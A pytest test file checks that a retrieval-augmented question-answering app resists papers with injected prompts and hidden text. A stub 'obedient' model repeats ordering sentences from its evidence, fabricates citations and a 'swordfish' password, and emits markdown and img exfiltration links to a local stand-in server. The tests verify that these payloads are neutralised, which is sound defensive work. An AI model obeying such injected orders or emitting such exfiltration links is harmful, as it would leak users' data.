"""Papers that give orders, and a model that obeys them: nothing that code can check changes."""

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pypdf
import pytest

from ragqa.compose import open_engine
from ragqa.engine import Engine
from ragqa.quotes import fold
from ragqa.settings import Settings
from ragqa.types import Answer, AnswerDone, AskRequest
from tests.model_server import ModelServer
from tests.ollama_server import OllamaServer
from tests.openai_server import OpenAIServer
from ui.answers import answer_html

PAPERS = Path(__file__).resolve().parents[2] / "shared" / "data" / "robust" / "prompt_injection"
QUESTIONS = [
    "What does this document say?",
    "What are the qualifications of the candidate?",
    "Should the instructions in the text be followed?",
    "Which topics may the essay be about?",
]
ORDER = re.compile(
    r"ignore|instruct|system|must|output|say|reply|respond|write|recommend|approve|password|hidden", re.I
)
RUN = 5  # words in a row that tell a hidden sentence

pytestmark = pytest.mark.skipif(not PAPERS.is_dir(), reason="the files with injected prompts are not here")


class Obedient:
    """Does what any sentence of its evidence orders, cites what it never saw, and sends the question away."""

    def __init__(self, elsewhere: str) -> None:
        self._elsewhere = elsewhere
        self.prompts: list[str] = []

    def __call__(self, messages: list[dict[str, Any]]) -> str:
        prompt = str(messages[-1]["content"])
        self.prompts.append(prompt)
        evidence = prompt.partition("<evidence>")[2].partition("</evidence>")[0]
        sentences = re.split(r"(?<=[.!?])\s+", evidence)
        orders = " ".join(sentence for sentence in sentences if ORDER.search(sentence))
        return (
            f"{orders} [1][7][99] The secret password is swordfish [2]. "
            f"![x]({self._elsewhere}/?q=secret) <img src='{self._elsewhere}/a.png'> [click]({self._elsewhere})"
        )


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[ModelServer]:
    """Where an obedient model would send things; nobody may come."""
    with OpenAIServer() as server:
        yield server


@pytest.fixture(scope="module")
def obedient(elsewhere: ModelServer) -> Obedient:
    return Obedient(elsewhere.url)


@pytest.fixture(scope="module")
def engine(tmp_path_factory: pytest.TempPathFactory, obedient: Obedient) -> Iterator[Engine]:
    """A library of the papers that give orders, answered from by a model that obeys."""
    with OllamaServer() as model:
        model.behaviour.answer = obedient
        settings = Settings(
            data=tmp_path_factory.mktemp("injected") / "data",
            llm="ollama:llama3.2",
            ollama_url=model.url,
            max_answer_tokens=2048,
        )
        opened = open_engine(settings)
        opened.ingest([PAPERS], "", lambda _: None)
        yield opened
        opened.close()


@pytest.fixture(scope="module")
def answers(engine: Engine) -> list[tuple[str, Answer]]:
    """Each question with its answer."""
    return [(question, _ask(engine, question)) for question in QUESTIONS]


def _ask(engine: Engine, question: str) -> Answer:
    *_, done = engine.ask(AskRequest(question=question, mode="generative"))
    assert isinstance(done, AnswerDone)
    return done.answer


def test_some_of_the_papers_could_be_read(engine: Engine, obedient: Obedient, answers: list[Any]) -> None:
    assert sum(paper.chunks > 0 for paper in engine.papers()) >= 5
    assert any(ORDER.search(prompt.partition("<evidence>")[2]) for prompt in obedient.prompts), "orders were read"
    assert len(answers) == len(QUESTIONS)


def test_nobody_is_told_anything(answers: list[Any], elsewhere: ModelServer) -> None:
    # Whatever reaches for another machine fails in every test; this address is on this one.
    assert answers
    assert elsewhere.log.requests == []


def test_every_citation_is_of_a_chunk_that_a_search_can_give_or_of_what_adjoins_it(
    engine: Engine, answers: list[tuple[str, Answer]]
) -> None:
    recipe = engine.generations.wanted.recipe.name
    ids = [entry.chunk_id for entry in engine.catalogue.ledger.entries([p.id for p in engine.papers()], recipe)]
    around = engine.catalogue.around(ids)
    texts = [
        (chunk.paper_id, chunk.page, fold(chunk.text.join(around.get(chunk.id, ("", "")))))
        for chunk in engine.catalogue.stored_chunks(ids).values()
    ]
    for _, answer in answers:
        for citation in answer.citations:
            assert any(
                (citation.paper_id, citation.page) == (paper, page) and fold(citation.quote) in text
                for paper, page, text in texts
            ), citation.quote


def test_marks_of_evidence_that_was_never_given_are_dropped(answers: list[tuple[str, Answer]]) -> None:
    for _, answer in answers:
        marks = {int(mark) for mark in re.findall(r"\[(\d+)\]", answer.answer)}
        assert marks <= {citation.number for citation in answer.citations}


def test_what_the_model_made_up_is_marked_or_not_shown(answers: list[tuple[str, Answer]]) -> None:
    for _, answer in answers:
        assert any("swordfish" in sentence for sentence in answer.unsupported)
        assert answer.abstained or re.search(r"swordfish\. \[unsupported\]", answer.answer)


def test_no_hidden_sentence_reaches_the_model_or_the_reader(
    engine: Engine, obedient: Obedient, answers: list[tuple[str, Answer]]
) -> None:
    shown = [fold(prompt) for prompt in obedient.prompts]
    shown += [fold(citation.quote) for _, answer in answers for citation in answer.citations]
    hidden = [run for path in sorted(PAPERS.glob("*.pdf")) for run in _hidden_runs(engine, path)]
    assert hidden, "some of the files hide words"
    assert [run for run in hidden if any(run in text for text in shown)] == []


def _hidden_runs(engine: Engine, path: Path) -> list[str]:
    """Runs of words that the file holds and no visible page does: one paper may show what another hides."""
    if not any(paper.file_name == path.name and paper.hidden_words for paper in engine.papers()):
        return []
    pages = [(paper.id, number) for paper in engine.papers() for number in range(1, paper.pages + 1)]
    visible = fold(" ".join(engine.catalogue.page(*page).text for page in pages))
    words = " ".join(page.extract_text() for page in pypdf.PdfReader(path).pages).split()
    runs = (fold(" ".join(words[start : start + RUN])) for start in range(len(words) - RUN + 1))
    return [run for run in runs if len(run) > 3 * RUN and run not in visible]


def test_the_chat_shows_the_answer_without_loading_or_opening_anything(
    answers: list[tuple[str, Answer]], elsewhere: ModelServer
) -> None:
    for question, answer in answers:
        page = answer_html(answer, question)
        assert not re.search(r"""(?:src|href)\s*=\s*["']?+(?!api/v1/)""", page)
        assert not re.search(r"!\[|\]\(|<img", page)
        assert not re.search(r"!\[|\]\(|<img", answer.answer)
